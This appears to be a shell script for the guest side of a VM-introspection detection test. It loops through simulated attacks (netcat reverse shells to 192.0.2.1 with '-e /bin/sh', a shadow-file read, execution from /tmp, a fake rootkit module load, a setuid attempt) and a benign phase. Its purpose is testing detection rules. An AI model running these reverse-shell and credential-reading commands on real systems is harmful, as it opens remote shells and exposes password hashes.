#!/bin/sh
# Guest side of the policy scenario. After a setup, rounds forever: an attack phase (five
# behaviours the default policy must alert on, each by its own process) and a benign phase
# (package install and service restart, which must raise nothing). Each process says how the
# guest sees it in a "VMI-PROC mode=... pid=..." line; each phase boundary is an openat of
# /run/vmi-phase/<phase>-<round> (a syscall the daemon records, so check can find it in the
# events) and a "PHASE <phase> round=N" line.
#
# The busybox here runs applets through /proc/self/exe and then names the process after the
# applet; tools run by full path (/sbin/insmod, /usr/bin/nc) are exec'd under their own name.
set -u
ip link set lo up
# The guest has no NIC (no built-in driver): the listener's address is a non-loopback one on lo.
ip addr add 192.0.2.1/32 dev lo
mkdir -p /opt/vmi /var/log /var/lib/dpkg/info /usr/lib /run/vmi-phase /etc
echo 'root:$6$vmilab$Q0dJZ3Q4bFp1aWJvZ3VzaGFzaA:19700:0:99999:7:::' >/etc/shadow
chmod 600 /etc/shadow
echo 'root:x:0:0:root:/root:/bin/sh' >/etc/passwd
echo 'root:x:0:' >/etc/group
echo 'ID=vmilab' >/etc/os-release
printf 'Package: vmi-pkg\nStatus: install ok installed\n' >/var/lib/dpkg/status
printf 'not a kernel module\n' >/root/vmi-rootkit.ko
for name in vmi-shadow vmi-setuid dpkg; do
	cp /bin/vmi-attack "/opt/vmi/$name"
done

# Benign: a service manager restarting a daemon, which logs by appending and keeps pid files.
cat >/opt/vmi/vmi-svcd <<'EOF'
#!/bin/sh
echo "VMI-PROC mode=svcd pid=$$ ppid=$PPID comm=$(cat /proc/$$/comm) uid=$(id -u)"
echo $$ >/run/vmi-svcd.main.pid
trap 'echo "$(date +%T) vmi-svcd[$$]: stopping" >>/var/log/vmi-svcd.log; rm -f /run/vmi-svcd.main.pid; exit 0' TERM
while :; do
	echo "$(date +%T) vmi-svcd[$$]: tick $(cat /etc/os-release)" >>/var/log/vmi-svcd.log
	sleep 0.3
done
EOF
cat >/opt/vmi/vmi-svc-restart <<'EOF'
#!/bin/sh
echo "VMI-PROC mode=svc-restart pid=$$ ppid=$PPID comm=$(cat /proc/$$/comm) uid=$(id -u)"
pidfile=/run/vmi-svcd.pid log=/var/log/vmi-svcd.log
start() {
	/opt/vmi/vmi-svcd &
	echo $! >"$pidfile"
	echo "$(date +%T) vmi-svc-restart: started vmi-svcd $!" >>"$log"
	# running once it has logged a tick
	i=0
	until [ "$(grep -c "vmi-svcd\[$!\]: tick" "$log")" -gt 0 ] || [ $i -ge 100 ]; do
		i=$((i + 1))
		sleep 0.1
	done
}
stop() {
	pid=$(cat "$pidfile")
	kill "$pid"
	wait "$pid"
	rm -f "$pidfile"
	echo "$(date +%T) vmi-svc-restart: stopped vmi-svcd $pid" >>"$log"
}
start
stop
start
stop
EOF
cat >/opt/vmi/vmi-benign <<'EOF'
#!/bin/sh
echo "VMI-PROC mode=benign pid=$$ ppid=$PPID comm=$(cat /proc/$$/comm) uid=$(id -u)"
/opt/vmi/dpkg dpkg
/opt/vmi/vmi-svc-restart
EOF
chmod 755 /opt/vmi/vmi-svcd /opt/vmi/vmi-svc-restart /opt/vmi/vmi-benign

listening() { # listening PORT_HEX: a TCP socket listens on that port (nc -l takes IPv6 "any")
	cat /proc/net/tcp /proc/net/tcp6 2>/dev/null | grep -q ":$1 0*:0000 0A"
}

wait_listening() {
	i=0
	until listening "$1"; do
		i=$((i + 1))
		[ $i -lt 100 ] || return 1
		sleep 0.1
	done
}

# A reverse shell: PROGRAM (run as a shell command line) connects to a listener on
# 192.0.2.1:PORT and runs /bin/sh for it; the listener sends the shell one command, which
# reports from inside the shell, and reads the answer.
reverse_shell() { # reverse_shell MODE PORT PORT_HEX PROGRAM...
	mode=$1 port=$2 hex=$3
	shift 3
	printf '%s\n' "echo \"VMI-PROC mode=$mode-shell pid=\$\$ comm=\$(cat /proc/\$\$/comm) uid=\$(id -u)\"" exit |
		nc -l -p "$port" >/tmp/vmi-rshell.out &
	listener=$!
	wait_listening "$hex" || echo "VMI-ATTACK $mode listener-not-up"
	sh -c 'echo "VMI-PROC mode='"$mode"' pid=$$ ppid=$PPID uid=$(id -u) exec=$1"; exec "$@"' sh "$@"
	wait "$listener"
	cat /tmp/vmi-rshell.out
}

phase() { # phase NAME ROUND: mark a phase boundary in the guest log and in the syscalls
	echo "PHASE $1 round=$2"
	: >"/run/vmi-phase/$1-$2"
}

attacks() {
	# 1. Reverse shell: busybox itself connects out, then becomes /bin/sh on the socket
	#    (Shell Outbound Connection); then netcat with -e (Netcat Remote Code Execution).
	reverse_shell rshell 4444 115C busybox nc 192.0.2.1 4444 -e /bin/sh
	reverse_shell netcat 4445 115D /usr/bin/nc 192.0.2.1 4445 -e /bin/sh
	# 2. Password hashes read (Read Shadow File).
	/opt/vmi/vmi-shadow shadow
	# 3. A binary dropped in /tmp and run (Execution from Temporary Directory).
	rm -f /tmp/vmi-dropper
	cp /bin/vmi-attack /tmp/vmi-dropper
	/tmp/vmi-dropper dropper
	# 4. A kernel module load (Kernel Module Load Syscall, Kernel Module Loaded via Tool).
	sh -c 'echo "VMI-PROC mode=insmod pid=$$ ppid=$PPID uid=$(id -u) exec=insmod"; exec /sbin/insmod /root/vmi-rootkit.ko'
	# 5. A non-root process asking for root (Setuid to Root by Non-Root Process).
	/opt/vmi/vmi-setuid setuid
}

echo "VMI-SETUP done"
n=0
while :; do
	n=$((n + 1))
	echo "ROUND $n BEGIN"
	phase attack-begin $n
	attacks
	phase attack-end $n
	phase benign-begin $n
	/opt/vmi/vmi-benign
	phase benign-end $n
	echo "ROUND $n END"
	sleep 2
done
